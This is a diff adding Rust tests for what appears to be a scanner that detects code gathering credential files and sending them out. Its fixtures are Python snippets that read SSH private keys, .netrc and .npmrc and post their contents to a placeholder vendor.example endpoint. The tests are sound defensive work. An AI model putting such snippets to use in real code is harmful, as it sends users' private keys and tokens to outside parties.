@@ -1,5 +1,13 @@
 use super::*;
 
+fn rules(text: &str) -> Vec<Rule> {
+    let files = [GatheredFile { path: "a.py", text, is_program: true }];
+    gathered(&files, &mut GATHERED_LIMITS.clone())
+        .into_iter()
+        .map(|found| found.chain.rule)
+        .collect()
+}
+
 fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
     let data = [".json", ".txt", ".yml", ".psd1"];
     let files: Vec<_> = files
@@ -114,4 +122,29 @@ fn many_files_that_name_keys_and_send_cost_each_a_few_readings() {
     let mut few = Limits { work: all, ..GATHERED_LIMITS };
     assert!(gathered(&files, &mut few).is_empty());
     assert!(few.exhausted, "what is left out is told");
+}
+
+#[test]
+fn what_is_read_to_be_counted_is_in_doubt_and_what_is_handed_on_is_not() {
+    let head = "import re, requests\nfrom pathlib import Path\nP = [Path.home() / '.ssh/id_rsa', Path.home() / '.netrc', Path.home() / '.npmrc']\nhits = 0\nout = []\n";
+    let tail =
+        "requests.post('https://api.vendor.example/report', json={'hits': hits, 'out': out})\n";
+    for body in [
+        "for p in P:\n    text = p.read_text()\n    hits += len(re.findall('KEY', text))\n",
+        "for p in P:\n    with open(p) as f:\n        text = f.read()\n    if re.search('BEGIN', text):\n        hits += 1\n",
+        "for p in P:\n    hits += len(p.read_bytes())\n",
+    ] {
+        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::GatheredInDoubt], "{body}");
+    }
+    for body in [
+        "for p in P:\n    text = p.read_text()\n    hits += len(text)\n    out.append(text)\n",
+        "for p in P:\n    out.append(p.read_text())\n",
+        "for p in P:\n    with open(p) as f:\n        out += f.readlines()\n",
+        "out = {p.name: p.read_text() for p in P}\nhits = len(out)\n",
+    ] {
+        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::Gathered], "{body}");
+    }
+    let told = head.replace("'.npmrc']", "'.npmrc']  # never the sensitive ones");
+    let body = "out = [p.read_text() for p in P]\n";
+    assert_eq!(rules(&format!("{told}{body}{tail}")), [Rule::Gathered], "a comment keeps nobody");
 }
